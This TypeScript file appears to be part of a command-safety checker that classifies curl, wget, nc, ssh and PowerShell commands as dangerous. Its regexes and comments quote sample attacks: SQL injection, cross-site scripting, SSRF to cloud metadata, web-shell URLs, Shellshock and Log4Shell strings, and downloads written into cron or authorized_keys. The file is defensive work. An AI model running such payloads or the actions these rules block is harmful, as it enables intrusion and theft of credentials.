// Downloaders and raw network tools: what they fetch may be run next (the engine follows that), so
// they are never repeatable; sending a local file away, or reaching a service on this host (the
// worker's own, a database), is dangerous.
import { parseShell, type Word } from '../shell-lex.js';
import {
  checkWriteTarget,
  danger,
  dangerUnlessOnlyAsked,
  HOME_CWD,
  infrastructurePort,
  namesThisMachine,
  onlyAsksAbout,
  operands,
  optionValue,
  THIS_MACHINE_ADDRESS,
  type Rule,
  type RuleTable,
  type State,
  word,
} from '../state.js';
import { WINDOWS_ABSOLUTE } from './interpreters.js';
import { WINDOWS_OUTSIDE_PATH } from './windows.js';
import {
  addressedUrl,
  addressGiven,
  aimedOnlyAtThisMachine,
  hostVariable,
  judgeUnknownProgram,
  otherMachineAddress,
  SERVICE_URL,
  targetHostUrl,
} from './unknown.js';

/** Port scanners: every address, range or name they are given is probed. */
export const PORT_SCANNERS = ['nmap', 'masscan', 'rustscan', 'zmap', 'unicornscan', 'amap', 'naabu', 'zgrab', 'zgrab2'];

/**
 * A substitution that only fetches a web page (`$(curl -L -s https://dl.k8s.io/release/stable.txt)`,
 * the version of a download): what it puts in the URL came from the network, nothing of this machine's.
 * Each word is a flag that takes no value or an http(s) URL, so no file, header, cookie, user or
 * config goes with it, and nothing nested rides inside.
 */
function fetchesOnly(text: string): boolean {
  const pipelines = parseShell(text);
  const [cmd, ...filters] = pipelines.length === 1 ? pipelines[0]!.commands : [];
  if (!cmd || cmd.redirects.length || !/^(curl|wget)$/.test(cmd.words[0]?.text ?? '')) return false;
  // The fetched text cut down to a field (`| grep tag_name | cut -d '"' -f 4 | sed 's/^v//'`): a release's version, still only what was fetched.
  if (!filters.every((f) => !f.redirects.length && f.words.every((w) => !w.expands) && TEXT_FILTER.test(f.words.map((w) => w.text).join(' ')))) return false;
  return cmd.words
    .slice(1)
    .every(
      (w) =>
        !w.expands &&
        (/^https?:\/\/[^\s@]+$/.test(w.text) || /^-[sSLfqkO]+-?$/.test(w.text) || /^--(silent|show-error|location|fail|quiet|insecure)$/.test(w.text)),
    );
}

/** A filter of text that runs nothing: grep, cut, tr, head, tail, jq, and sed's substitutions without its `e` and `w` flags. */
const TEXT_FILTER =
  /^(grep( -[a-zA-Z]+)*( \S+)?|cut( \S+)+|tr( \S+)+|head( -n)?( -?\d+)?|tail( -n)?( -?\d+)?|jq( -r)? \S+|sed( -E)? s(.)[^\n]*\7[^\n]*\7[gI\d]*)$/;

/**
 * A substitution that runs one of the workspace's own scripts with nothing else
 * (`$(scripts/get-min-go-version)`): the script may run anyway, so what it prints and the download
 * that carries it give no more than running it does.
 */
function runsWorkspaceScript(text: string): boolean {
  const pipelines = parseShell(text);
  const cmd = pipelines.length === 1 && pipelines[0]!.commands.length === 1 ? pipelines[0]!.commands[0]! : undefined;
  const script = cmd?.words.length === 1 && !cmd.redirects.length ? cmd.words[0]! : undefined;
  return !!script && !script.expands && script.text.includes('/') && /^(\.\/)?[\w-][\w.-]*(\/[\w-][\w.-]*)*$/.test(script.text);
}

/**
 * A substitution that prints only the machine's platform (`$(uname -m)`, `$(dpkg --print-architecture)`,
 * `$(lsb_release -cs)`), the part of a release's file name that picks the build: a download's
 * request says as much in its user agent.
 */
const PLATFORM_PRINTER =
  /^\s*(uname(\s+-[smpro]+)*|arch|dpkg\s+--print-architecture|lsb_release\s+(-(cs|sc|rs|sr|is|si)|--(id|codename|release)\s+--short|--short\s+--(id|codename|release))|go\s+env\s+(GOOS|GOARCH)(\s+(GOOS|GOARCH))?|rustc\s+--print\s+host-tuple|(\S*\/)?python3?\s+-c\s+['"]import platform;\s*print\(platform\.machine\(\)\)['"])(\s*\|\s*(tr|sed)\s+(['"]?[^'"$`\s|]*['"]?\s*)+)?\s*$/;

/** A Makefile's variable in a recipe (`$(OPENAPI_BRANCH)`): one capitalised name, no program's, that make fills in. */
const MAKE_VARIABLE_REFERENCE = /^\s*[A-Z][A-Z0-9_]*\s*$/;

const HEADER_FLAG = /^(-A|--user-agent|-H|--header|-e|--referer|-b|--cookie|-U)$/;
/** A header that carries a login (a token or a key), with its value written out. */
const CREDENTIAL_HEADER = /^\s*(authorization|proxy-authorization|x-api-key|private-token|x-auth-token)\s*:\s*\S+/i;
const SERVER_CODE = /<\?php|<%[=@]?\s|\$\{jndi:/i;

/**
 * A URL that asks another host's web application for what it did not mean to serve: PHP's stream
 * wrappers (`?page=php://filter/…`, `php://input`, `expect://`), a parameter naming a system file or log
 * (`?page=/var/log/apache2/access.log`, file inclusion), or the metadata of a version-control checkout
 * published by mistake (`/.git/`, `/.svn/`, `.svn-base`), whose files rebuild its source and secrets;
 * or a parameter named for a command whose value is one (`?c=id`, `?cmd=whoami`, `&exec=uname+-a`),
 * how a planted web shell is told what to run on its server.
 * Any program given one is attacking that site (curl, a dumper, kadimus).
 */
const PHP_WRAPPER = /(^|[=/?&])(php|phar|expect|zip|glob|data):\/\//i;
const SYSTEM_PATH_PARAMETER = /[?&][\w.[\]-]*=(file(:|%3a))?(%2f|\/)+(etc|proc|var(%2f|\/)log|root|home)(%2f|\/)/i;
const WEB_SHELL_PARAMETER =
  /[?&](c|cmd|command|exec|execute|run|shell|sh)=(id|whoami|uname|hostname|ls|dir|cat|pwd|ps|ifconfig|ip|netstat|wget|curl|nc|bash|sh|echo|type|ver|systeminfo|ipconfig)([+%&\s]|$)/i;
/**
 * SQL written into a URL (`?r_sort=date_add%60%3BSELECT%20SLEEP%2825%29%23`, `?id=1 union select …`,
 * `)+or+sleep(4)%23`): a time delay, a union, a stacked query or a tautology the application is meant
 * to splice into its own query, read once the escapes and `+` are decoded. No page is asked for so.
 */
const SQL_INJECTION =
  /\b(sleep|pg_sleep|benchmark)\s*\(\s*\d|\bwaitfor\s+delay\b|\bunion(\s|\/\*\*\/)+(all\s+)?select\b|;\s*select\b|\bselect\s*\(0x[0-9a-f]+\)|['"`)]\s*(or|and|\|\|)(\s+|(?=['"]))(\d+\s*=\s*\d+|'[^']*'\s*=\s*'|sleep\b|select\b|case\s+when\b)|\binformation_schema\.|\b(extractvalue|updatexml)\s*\(/i;
/**
 * A template expression in a URL's parameters (`?name={{7*7}}`, `${7*7}`, `<%= 7*7 %>`, `{{config}}`):
 * the probe and the payload of server-side template injection, which the template engine runs.
 */
const TEMPLATE_INJECTION =
  /\{\{\s*\d+\s*\*\s*\d+\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}|\{\{[^}]*(config|self\.|__class__|__globals__|cycler|lipsum|request\.application)/i;
/**
 * Script written into a URL (`?param=<script>`, `?q=<svg/onload=alert(1)>`, `javascript:alert(document.cookie)`): the probe and
 * the payload of cross-site scripting, which the page echoes for a visitor's browser to run.
 */
const SCRIPT_INJECTION = /<\s*script\b|<\s*\w+[^>]*[\s/]on[a-z]+\s*=|javascript:\s*\w+\s*\(|\balert\s*\(\s*(\d|document\.|['"])/i;
/**
 * WordPress's list of a site's users (`/wp-json/wp/v2/users`, `?rest_route=/wp/v2/users`, the site's own `/?author=1`): the
 * logins a password spray or a brute force then tries. A site of this machine's own is its own.
 */
const WORDPRESS_USERS = /\/wp-json\/wp\/v2\/users\b|[?&]rest_route=\/wp\/v2\/users\b|^[^/?#]+\/?(index\.php)?\?author=\d+\b/i;
/**
 * A parameter that hands a server a URL of its own loopback or of the cloud's metadata service
 * (`download.php?dl=http://127.0.0.1/secure/debug.php`, `?url=http://169.254.169.254/latest/meta-data/`): the server
 * fetches its own internal pages for the caller, server-side request forgery. A login's return address
 * (`redirect_uri=http://localhost:8080/callback`) is where the browser goes back to, not a fetch.
 */
const SERVER_SIDE_REQUEST =
  /[?&](?![\w.[\]-]*(redirect|callback|return|next|continue|origin|service)[\w.[\]-]*=)[\w.[\]-]*=(https?|gopher|dict|file|ftp)(:|%3a)(\/|%2f){2}(127\.\d|localhost\b|0\.0\.0\.0|\[::1\]|169\.254\.|metadata\.google\.internal)/i;
/** A URL's or a form's text decoded (`+` a blank, `%26` an ampersand); malformed escapes are kept as they are. */
export const decodedUrl = (text: string) => {
  try {
    return decodeURIComponent(text.replace(/\+/g, ' '));
  } catch {
    return text.replace(/\+/g, ' ');
  }
};
/** A server-side script named as a web shell (`php-reverse-shell.php`, `shell.php`, `cmd.jsp`, `c99.php`): requesting it runs it. */
const WEB_SHELL_FILE =
  /\/([\w.-]*(reverse[-_]?shell|rev[-_]?shell|web[-_]?shell|backdoor)[\w.-]*|shell|cmd|c99|r57|b374k)\.(php\d?|phtml|jsp|jspx|aspx?|cgi)([?#]|$)/i;
const PUBLISHED_CHECKOUT = /^[a-z][\w+.-]*:\/\/[^/\s]+\/(?:[^?#\s]*\/)?(\.git|\.svn|\.hg|\.bzr)(\/|$)|\.svn-base$/i;
/** The same metadata of a site a variable names (`"${URL}/.git/"`, a dumper's script run over a list of sites). */
const PUBLISHED_CHECKOUT_OF_SITE = /^\$\{?\w*(URL|HOST|TARGET|SITE|DOMAIN)\}?\/(?:[^?#\s]*\/)?(\.git|\.svn|\.hg|\.bzr)(\/|$)/i;
/**
 * Jolokia's operations on a Java application's MBeans (`/jolokia/exec/…`, `/jolokia/write/…`): they set
 * its properties, write its files and stop its hosts, the steps of its published takeovers.
 */
const JOLOKIA_OPERATION = /(^|\/)jolokia\/(exec|write)\//i;
/**
 * A Firebase project's data read through its REST API: the Realtime Database's JSON (`…firebaseio.com/.json`),
 * Firestore's documents, Storage's objects. Left open by mistake, they hold an app's users' data; with a
 * token, the data that user may see.
 */
const FIREBASE_DATA =
  /^[^/]*\.firebaseio\.com\/[^?#]*\.json([?#]|$)|^firestore\.googleapis\.com\/v1\/projects\/[^/]+\/databases\/|^firebasestorage\.googleapis\.com\/v0\/b\//i;
/** Java that runs a program, written into a URL for a server to evaluate or store as a page. */
const JAVA_CODE = /Runtime\.getRuntime\(\)\.exec|new\s+ProcessBuilder\b/;
export function webExploitUrl(text: string): string | undefined {
  if (PUBLISHED_CHECKOUT_OF_SITE.test(text)) return `downloads a site's version-control metadata, its source and secrets published by mistake (${text})`;
  const url = /^([a-z][\w+.-]*):\/\/(.*)$/is.exec(text);
  if (!url || /^(php|phar|expect|zip|glob|data)$/i.test(url[1]!)) return undefined;
  const rest = url[2]!;
  if (PHP_WRAPPER.test(rest)) return `asks a web application to read or run through PHP's stream wrappers (${text})`;
  if (SYSTEM_PATH_PARAMETER.test(text)) return `asks a web application to include a system file or log (${text})`;
  // A web shell of this machine's own test service runs its command here: that command is judged instead.
  const here = loopbackWebShellCommand(text) !== undefined;
  if (WEB_SHELL_PARAMETER.test(rest) && !here) return `tells a web shell on another host what to run (${text})`;
  if (WEB_SHELL_FILE.test(rest) && !here) return `asks for a web shell planted on a server, which runs it (${text})`;
  const decoded = decodedUrl(rest);
  if (SQL_INJECTION.test(decoded)) return `sends SQL for a web application to splice into its queries, SQL injection (${text})`;
  if (SCRIPT_INJECTION.test(decoded)) return `sends script for a page to echo to its visitors, cross-site scripting (${text})`;
  // curl's globbing makes a URL's braces literal only when escaped (`\{\{4*4\}\}`): the server gets them bare.
  if (TEMPLATE_INJECTION.test(decoded.replace(/\\([{}])/g, '$1')))
    return `sends a template expression for the server to evaluate, template injection (${text})`;
  // This machine's own test service (a lab's site on localhost) publishes nothing of anyone else's.
  const ownSite = LOOPBACK.test(rest.replace(/^[^/@]*@/, '').replace(/[/?#].*$/s, ''));
  if (PUBLISHED_CHECKOUT.test(text) && !ownSite) return `downloads a site's version-control metadata, its source and secrets published by mistake (${text})`;
  if (SERVER_SIDE_REQUEST.test(rest) && !ownSite)
    return `asks a server to fetch its own internal address for the caller, server-side request forgery (${text})`;
  if (WORDPRESS_USERS.test(rest) && !ownSite) return `lists a WordPress site's users, the logins a password attack then tries (${text})`;
  if (JOLOKIA_OPERATION.test(rest)) return `runs a Java application's management operations through its Jolokia endpoint (${text})`;
  if (JAVA_CODE.test(decoded)) return `sends Java code for the server to run (${text})`;
  if (FIREBASE_DATA.test(rest)) return `reads a Firebase project's database or stored files through its REST API (${text})`;
  return undefined;
}

/** The command a URL hands a web shell on loopback (`http://localhost:8080/shell.jsp?cmd=cat%20/etc/issue`), decoded; else undefined. */
export function loopbackWebShellCommand(text: string): string | undefined {
  const url = /^https?:\/\/([^/?#\s]*)(.*)$/is.exec(text.replace(/\\([?=&])/g, '$1'));
  if (!url || !LOOPBACK.test(url[1]!.replace(/^[^@]*@/, '')) || !WEB_SHELL_PARAMETER.test(url[2]!)) return undefined;
  return decodedUrl(/[?&](?:c|cmd|command|exec|execute|run|shell|sh)=([^&#]*)/i.exec(url[2]!)?.[1] ?? '');
}

/** Programs that download data (and so may feed a shell, an interpreter or chmod). */
export const DOWNLOADERS: ReadonlySet<string> = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'nc', 'ncat', 'socat']);

const LOOPBACK = /(^|[/@:\s])(127\.\d+\.\d+\.\d+|localhost|\[?::1\]?|0\.0\.0\.0)([:/\s]|$)/;
/** The web clients, which take a host without a scheme as a page's URL (nc and socat take a host and a port apart). */
export const WEB_CLIENT = /^(curl|wget|http|https|xh|xhs|fetch|aria2c)$/;
const PROXY_OPTION = /^(-x|--proxy|--preproxy|--socks4a?|--socks5(-hostname)?)$/;
const SEND_FLAG =
  /^(-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|--json|-F|--form|--form-string|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)$/;
/** `scheme://user:password@host`: a login's user and password before the host. */
const URL_WITH_PASSWORD = /^[a-z][\w+.-]*:\/\/[^/@:\s]+:[^/@\s]+@/i;
/** wget's `-T` is its timeout, where curl's is a file to upload. */
const WGET = /^wget2?$/;
const DATA_FLAG = /^(-d|--data(-binary|-raw|-urlencode)?|-F|--form)$/;

/**
 * A web URL that asks the server for files outside what it serves: a path that climbs above its root
 * (more `..` than the directories before them), Tomcat's `..;/` and the encoded `%2e%2e` or `..%2f`,
 * which a server decodes after its checks, or a parameter that climbs or names the server's own system
 * files (`?fileName=/etc/passwd`, `page=../../etc/shadow`, `win.ini`). Path traversal and file-read
 * exploits: the other machine's secrets, fetched. `/a/b/../c` stays inside and passes.
 */
const WEB_URL = /^[a-z][\w+.-]*:\/\/[^/?#\s]*(\/[^?#\s]*)?(\?\S*)?$/i;
const ENCODED_CLIMB = /\.\.;|%2e%2e|\.\.%2f|\.\.%5c|%2e\.|\.%2e/i;
const SYSTEM_FILE_PARAMETER = /=(\.\.[/\\]|(%2f|\/)+(etc(%2f|\/)(passwd|shadow)|proc(%2f|\/)self(%2f|\/)environ)(&|$)|[^&]*win\.ini(&|$))/i;
function traversalUrl(text: string): boolean {
  const m = WEB_URL.exec(text);
  if (!m) return false;
  const [, urlPath = '', query = ''] = m;
  if (ENCODED_CLIMB.test(urlPath) || SYSTEM_FILE_PARAMETER.test(query)) return true;
  let depth = 0;
  for (const segment of urlPath.split('/').slice(1)) {
    depth += segment === '..' ? -1 : segment === '.' || segment === '' ? 0 : 1;
    if (depth < 0) return true;
  }
  return false;
}

/**
 * The options that name a file or directory a downloader writes (the download, its headers, its
 * cookies, its log), per program. What lands outside the workspace is a write there like any other:
 * `wget -O /etc/cron.d/x URL` is a cron job, `curl -o ~/.ssh/authorized_keys URL` a key.
 */
const OUTPUT_OPTIONS: Readonly<Record<string, RegExp>> = {
  curl: /^(-o|--output|--output-dir|-D|--dump-header|-c|--cookie-jar|--trace|--trace-ascii|--stderr|--libcurl|--etag-save|--hsts|--alt-svc)$/,
  wget: /^(-O|--output-document|-P|--directory-prefix|-o|--output-file|-a|--append-output|--save-cookies|--warc-file)$/,
  fetch: /^(-o|--output)$/,
  aria2c: /^(-d|--dir|-o|--out|-l|--log|--save-session)$/,
  http: /^(-o|--output)$/,
};

/**
 * The words `prog` writes to, as written: `-o FILE`, `--output=FILE`, and in a cluster of short
 * options the rest of the word or the next one (`-oFILE`, `-qO FILE`, `-fsSLo FILE`).
 */
function outputTargets(prog: string, args: Word[]): Word[] {
  const options = OUTPUT_OPTIONS[prog];
  if (!options) return [];
  const out: Word[] = [];
  for (const [i, a] of args.entries()) {
    const t = a.text;
    const next = args[i + 1];
    if (t.startsWith('--')) {
      const eq = t.indexOf('=');
      if (eq > 0 && options.test(t.slice(0, eq))) out.push({ ...a, text: t.slice(eq + 1) });
      else if (options.test(t) && next) out.push(next);
    } else if (/^-[a-zA-Z]/.test(t)) {
      const k = [...t.slice(1)].findIndex((ch) => options.test(`-${ch}`));
      if (k < 0) continue;
      const rest = t.slice(k + 2);
      if (rest) out.push({ ...a, text: rest });
      else if (next) out.push(next);
    }
  }
  return out;
}

/**
 * HTTP methods that change what the server holds (WebDAV's among them, and a cache's PURGE and BAN, which
 * drop what it serves everyone): `curl -X MOVE`, `-XDELETE`, `--request=PUT`, wget's `--method=PATCH`,
 * httpie's `http PUT URL`. Sent to another machine they write, move or delete there, with or without a body.
 */
const WRITE_METHOD = /^(PUT|PATCH|DELETE|MOVE|COPY|MKCOL|PROPPATCH|LOCK|PURGE|BAN)$/i;
function writeMethod(prog: string, args: Word[]): string | undefined {
  for (const [i, a] of args.entries()) {
    const t = a.text;
    const m = /^(?:-X|--request=|--method=)(.+)$/.exec(t);
    const value = m ? m[1] : /^(-X|--request|--method)$/.test(t) ? args[i + 1]?.text : undefined;
    if (value !== undefined && WRITE_METHOD.test(value)) return value.toUpperCase();
  }
  const first = operands(args)[0]?.text;
  if (/^https?$/.test(prog) && first && /^[A-Z]+$/.test(first) && WRITE_METHOD.test(first)) return first;
  return undefined;
}

/** curl's Windows-domain authentication schemes. */
const DOMAIN_AUTH = /^--(ntlm|ntlm-wb|negotiate)$/;
/** The user curl and wget are given (`-u user:pass`, `--user=user`, `--http-user user`). */
function userGiven(args: Word[]): string | undefined {
  for (const [k, a] of args.entries()) {
    const m = /^(?:--user=|--http-user=|-u(?=.))(.+)$/.exec(a.text);
    if (m) return m[1];
    if (/^(-u|--user|--http-user)$/.test(a.text)) return args[k + 1]?.text;
  }
  return undefined;
}

/**
 * The home's own directories, as where a command stands (`cd ~/.gf; wget URL`, `cd ~/go/bin; curl -O URL`): its hidden
 * configuration and its program directories, which a project's checkout never is.
 */
const HOME_OWN_DIRECTORY = new RegExp(`^${HOME_CWD}(/(\\.[^/]+|go/bin|bin)(/|$)|$)`);
/** Whether a download is saved where the command stands, named by its URL (wget without `-O`, curl's `-O`). */
const savesWhereItStands = (prog: string, args: Word[], targets: Word[]) =>
  targets.length === 0 &&
  (WGET.test(prog)
    ? !args.some((a) => /^--spider$/.test(a.text))
    : prog === 'curl' && args.some((a) => /^(--remote-name(-all)?|-[a-zA-Z]*O[a-zA-Z]*)$/.test(a.text)));

const downloader: Rule = ({ prog, args, st }) => {
  const targets = outputTargets(prog, args);
  for (const target of targets) checkWriteTarget(target, st, `${prog} writes to`);
  if (st.cwd !== null && HOME_OWN_DIRECTORY.test(st.cwd) && savesWhereItStands(prog, args, targets))
    danger(st, `downloads into ${st.cwd.replace(HOME_CWD, '~')}, the home's own directory, outside the workspace (${prog})`);
  // A file uploaded only to a server on this machine (`curl -T - http://127.0.0.1:9000/v1/enqueue/…`) stays here.
  if (
    !aimedOnlyAtThisMachine(args) &&
    (args.some((a, i) => /^@/.test(a.text) && i > 0 && DATA_FLAG.test(args[i - 1]!.text)) ||
      args.some((a) => /^(-d|-F|--data[a-z-]*=?|--form=?)@|^[^=\s]+=@/.test(a.text)) ||
      args.some((a) => a.text === '--upload-file' || (a.text === '-T' && !WGET.test(prog))))
  )
    danger(st, `uploads a local file (${prog})`);
  // A mailbox or directory server on another host (`curl imaps://mail.example.com/INBOX -u me -p`,
  // `--url "ldap://dc.corp.local/…"`): curl logs in there and reads, moves or deletes the user's mail or
  // the directory's entries, as a mail or LDAP client would.
  const service = args.find((a) => SERVICE_URL.test(a.text));
  if (service) danger(st, `reads or changes mailboxes or a directory on another host (${prog} ${service.text})`);
  // A proxy on this host (`-x http://localhost:8080`, `--socks5 localhost:1080`) is a tunnel's or relay's
  // door: the request goes wherever it leads.
  const proxy = args.findIndex((a, k) => PROXY_OPTION.test(args[k - 1]?.text ?? '') && LOOPBACK.test(a.text));
  if (proxy >= 0) danger(st, `sends the request through a proxy on this host (${prog} ${args[proxy - 1]!.text} ${args[proxy]!.text})`);
  const infrastructure = args.find((a) => LOOPBACK.test(a.text) && infrastructurePort(a.text, args));
  if (infrastructure) danger(st, `connects to a service on this host (${prog} ${infrastructure.text})`);
  const target = args.find((a) => targetHostUrl(a.text));
  if (target) danger(st, `requests a page of the machine a variable names as the target (${prog} ${target.text})`);
  // curl and httpie take a host without a scheme too (`http 10.10.10.115:9200/_cat`, `curl $ETCDIP:2379/version`).
  const addressed = args.find(
    (a) =>
      addressedUrl(a.text) ||
      (WEB_CLIENT.test(prog) &&
        (/^\d/.test(a.text) ? otherMachineAddress(a.text) : /^\$[^:]*:\d/.test(a.text) && hostVariable(a.text)) &&
        !PROXY_OPTION.test(args[args.indexOf(a) - 1]?.text ?? '')),
  );
  if (addressed) danger(st, `requests a page of another machine named only by its address (${prog} ${addressed.text})`);
  const traversal = args.find((a) => traversalUrl(a.text));
  if (traversal) danger(st, `asks a web server for files outside what it serves, path traversal (${prog} ${traversal.text})`);
  // A URL that carries a user and a password (`ftp://anonymous:anonymous@10.10.10.98`) logs in to the
  // other machine with them: a session there, not a download of what it publishes.
  const login = args.find((a) => URL_WITH_PASSWORD.test(a.text));
  if (login) danger(st, `logs in to another machine with a password written in the URL (${prog})`);
  // A Windows domain account's login (`--ntlm -u 'CORP\\john:pass'`, `--negotiate`): the client
  // authenticates to that machine as a member of the domain, a session there as the account.
  const domainUser = userGiven(args);
  if (domainUser !== undefined && (/\\/.test(domainUser) || args.some((a) => DOMAIN_AUTH.test(a.text))))
    danger(st, `logs in to another machine with a Windows domain account (${prog} ${domainUser.replace(/:.*/, ':…')})`);
  // A user and a password given apart (`-u admin:12345 http://…`) log in the same way, to any host
  // but this one; a password from a variable is the environment's secret, not one written here.
  const url = args.find((a) => /^[a-z][\w+.-]*:\/\/\S/i.test(a.text));
  if (domainUser !== undefined && /^[^:$]+:[^$\s]+$/.test(domainUser) && url && !LOOPBACK.test(url.text))
    danger(st, `logs in to another machine with a password written in the command (${prog} ${domainUser.replace(/:.*/, ':…')})`);
  // A mailbox opened with a password written in the command (`-u user:pass imap://localhost:143/INBOX`) reads
  // that account's mail, on this machine's own server too: another person's messages, not the project's data.
  const mailbox = args.find((a) => /^(imap|pop3)s?:\/\//i.test(a.text));
  if (mailbox && domainUser !== undefined && /^[^:$]+:[^$\s]+$/.test(domainUser))
    danger(
      st,
      `reads a mailbox with a password written in the command (${prog} ${domainUser.replace(/:.*/, ':…')} ${mailbox.text.replace(/^([a-z\d]+:\/\/[^/;?]*).*$/is, '$1')})`,
    );
  // A credential written into a header (`-H "Authorization: token ghp_…"`, `-H "X-API-Key: …"`) signs in to
  // any host but this one as its holder; one from a variable is judged as the variable it reads.
  const credential = args.findIndex((a, k) => HEADER_FLAG.test(args[k - 1]?.text ?? '') && !a.expands && CREDENTIAL_HEADER.test(a.text));
  if (credential >= 0 && url && !LOOPBACK.test(url.text))
    danger(st, `signs in to another machine with a credential written in a header (${prog} ${args[credential - 1]!.text})`);
  // A body or a write sent only to a server on this machine (`curl -d '{}' http://localhost:8042/x`) is the
  // project's own service being driven, as its tests do; what the command computes or reads is judged still.
  const local = aimedOnlyAtThisMachine(args);
  const method = local ? undefined : writeMethod(prog, args);
  if (method) danger(st, `writes, moves or deletes a resource on another machine (${prog} ${method})`);
  // A value that opens with a function definition (`-A "() { :; }; cmd"`, or a header's value after
  // its name, `-H 'Cookie: () { :; }; cmd'`) is Shellshock: a vulnerable bash behind the server (a CGI
  // script) puts the header in its environment and runs what follows the definition.
  if (args.some((a) => /^([\w-]+:\s*)?\(\)\s*\{/.test(a.text)))
    danger(st, `sends a command hidden in a function definition, for a bash behind the server to run (${prog})`);
  // Server-side code in a header (`-A "<?php system($_GET['cmd']);?>"`, a `${jndi:…}` lookup) is log
  // poisoning or injection: the server writes it where a later request includes it, or runs it.
  const header = args.findIndex((a, k) => HEADER_FLAG.test(args[k - 1]?.text ?? '') && SERVER_CODE.test(a.text));
  if (header >= 0) danger(st, `sends server-side code in a header, for the server to log and run (${prog} ${args[header - 1]!.text})`);
  // Data sent out (a body, a form, an upload), local files fetched as URLs, and arguments built by a
  // command (`?d=$(cat …)`) move what is here to somewhere else.
  const sends = local ? undefined : args.find((a) => SEND_FLAG.test(a.text.replace(/=.*/, '')) && !(a.text === '-T' && WGET.test(prog)));
  if (sends) danger(st, `sends data to the network (${prog} ${sends.text.replace(/=.*/, '')})`);
  if (args.some((a) => /^(file|gopher|dict|ldap|tftp|telnet):\/\//i.test(a.text)))
    danger(st, `uses a URL scheme that reads local files or talks raw protocols (${prog})`);
  if (args.some((a) => a.nested.some((n) => !fetchesOnly(n) && !runsWorkspaceScript(n) && !PLATFORM_PRINTER.test(n) && !MAKE_VARIABLE_REFERENCE.test(n))))
    danger(st, `sends the output of a command to the network (${prog})`);
  // A probe of one port (`nc -z host 5432`, a CI wait) is a lookup; one whose address is computed
  // under a network prefix (`ncat -z "192.168.8.${i}" 9000` in a loop) is a sweep of the network.
  const sweep = sweepAddress(args);
  if (sweep && /^(nc|ncat|netcat)$/.test(prog))
    danger(st, `probes addresses computed at run time under a network prefix, a sweep of the network (${prog} ${sweep.text})`);
  // A fixed address whose port is computed (`wget http://10.0.0.1:$port` over `seq 1 1024`) tries
  // the host's ports one by one: a port scan, whichever client makes the connections.
  const portSweep = args.find((a) => a.expands && /^([a-z]+:\/\/)?(\d{1,3}\.){3}\d{1,3}:\$/i.test(a.text));
  if (portSweep) danger(st, `connects to ports of a host computed at run time, a scan of its ports (${prog} ${portSweep.text})`);
  // A client certificate's key (`ncat --ssl-key key.pem`) proves this machine's identity to the
  // other end: a login to that host, as ssh -i is.
  if (prog === 'ncat' && args.some((a) => /^--ssl-key(=|$)/.test(a.text)) && !args.some((a) => /^(-[a-zA-Z]*l[a-zA-Z]*|--listen)$/.test(a.text)))
    danger(st, 'authenticates to another host with a private key (ncat --ssl-key)');
  st.downloads = true;
  st.repeatable = false;
};

/**
 * PowerShell's web cmdlets (pwsh runs on Linux and macOS too): they fetch as curl does, and what
 * `-OutFile` names is a write where it lands, a Windows drive's path (`C:\is.exe`, or the `C:is.exe`
 * the shell leaves of it) or the user's and the machine's directories by their variables (`$env:USERPROFILE\Downloads`)
 * outside the workspace; `-InFile` sends a local file.
 */
const powershellWeb: Rule = ({ prog, args, st }) => {
  for (const [k, a] of args.entries()) {
    const target = args[k + 1];
    if (!target) continue;
    if (/^-outf(i(le?)?)?$/i.test(a.text)) {
      if (WINDOWS_ABSOLUTE.test(target.text)) danger(st, `${prog} writes to ${target.text} (a Windows drive, outside the workspace)`);
      else if (WINDOWS_OUTSIDE_PATH.test(target.text))
        danger(st, `${prog} writes to ${target.text} (the user's or the machine's directories, outside the workspace)`);
      else checkWriteTarget(target, st, `${prog} writes to`);
    }
    if (/^-inf(i(le?)?)?$/i.test(a.text)) danger(st, `uploads a local file (${prog} -InFile)`);
  }
  st.downloads = true;
  st.repeatable = false;
};

/** A word that is an address with a fixed network prefix and a computed rest (`192.168.1.$i`, `10.0.${n}.1`). */
const sweepAddress = (args: Word[]) => args.find((a) => a.expands && /^(\d{1,3}\.){1,3}[^.]*\$/.test(a.text));

/** ssh's options that take the next word; the first operand after them is the host, the rest its command. */
export const SSH_VALUED = /^-[bcDEeFIiJLlmOopQRSWwB]$/;

/** ssh and its kin run a command elsewhere (not repeatable); on this host they reach its services as another login. */
const remoteShell: Rule = ({ prog, args, st }) => {
  st.repeatable = false;
  if (args.some((a) => !a.text.startsWith('-') && LOOPBACK.test(a.text.replace(/^[^@]*@/, ' ').replace(/:.*$/, ' '))))
    danger(st, `connects to a service on this host (${prog})`);
  // A host and no command is a login shell there, fed whatever the run writes to it; `-N` logs in to
  // forward ports only, a way into the host's network; -V, -G, -Q and -O ask ssh itself something.
  if (prog === 'ssh' && !args.some((a) => /^-[a-zA-Z]*[VGQO]/.test(a.text)) && operands(args, SSH_VALUED).length === 1)
    danger(
      st,
      args.some((a) => /^-[a-zA-Z]*N/.test(a.text))
        ? `logs in to another host to forward ports through it (ssh -N ${operands(args, SSH_VALUED)[0]!.text})`
        : `opens a login shell on another host (ssh ${operands(args, SSH_VALUED)[0]!.text})`,
    );
  // A command given to ssh runs there, outside this sandbox and with this user's keys, whatever it
  // is: the host's files and services are not the workspace, so it is judged as the host's change,
  // and its words are judged as a command of their own too (executors.ts).
  const [host, ...remote] = operands(args, SSH_VALUED);
  if (prog === 'ssh' && host && remote.length > 0) danger(st, `runs a command on another host (ssh ${host.text})`);
  // sftp's session takes commands from whoever types (get, put, rm there); a batch file (`-b`)
  // holds them out of sight. Only a here-document's batch (`-b -`) is read, by its lines.
  const batch = args.findIndex((a) => a.text === '-b');
  if (prog === 'sftp' && operands(args, SSH_VALUED).length > 0 && args[batch + 1]?.text !== '-')
    danger(st, `opens a file session on another host (sftp ${operands(args, SSH_VALUED)[0]!.text})`);
};

/**
 * Programs that open an interactive session on another host, a device or a prepared environment,
 * where what is typed runs there (a shell, or a terminal whose keys start one). The value says when:
 * always, or with the words that name a host or ask for the shell.
 */
const SESSIONS: Readonly<Record<string, (ops: string[]) => boolean>> = {
  // A telnet session with a server on this machine (`telnet localhost 2223`, a test's) talks to that service here.
  telnet: (ops) => ops.length > 0 && !THIS_MACHINE_ADDRESS.test(ops[0]!),
  mosh: (ops) => ops.length > 0,
  // telnetlib3's client is telnet's, a session with the host it names.
